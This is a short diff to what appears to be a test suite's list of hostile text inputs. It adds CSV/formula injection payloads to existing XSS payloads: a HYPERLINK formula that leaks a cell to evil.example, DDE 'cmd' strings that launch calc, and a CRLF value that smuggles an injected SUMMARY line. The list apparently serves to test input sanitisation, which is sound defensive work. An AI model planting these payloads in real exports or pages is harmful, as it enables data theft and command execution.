@@ -46,6 +46,9 @@ TEXT_PAYLOADS = [
     '\\"; window.__xss_t30=1; //',
     '<noscript><p title="</noscript><img src=x onerror=window.__xss_t31=1>">',
     "Ünïcödé — “quotes” ‘too’ & ampersands < less > greater",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0\r\nSUMMARY:injected line",
 ]
 
 # Markdown bodies: (source, text that must be visible, or None when Markdown legitimately
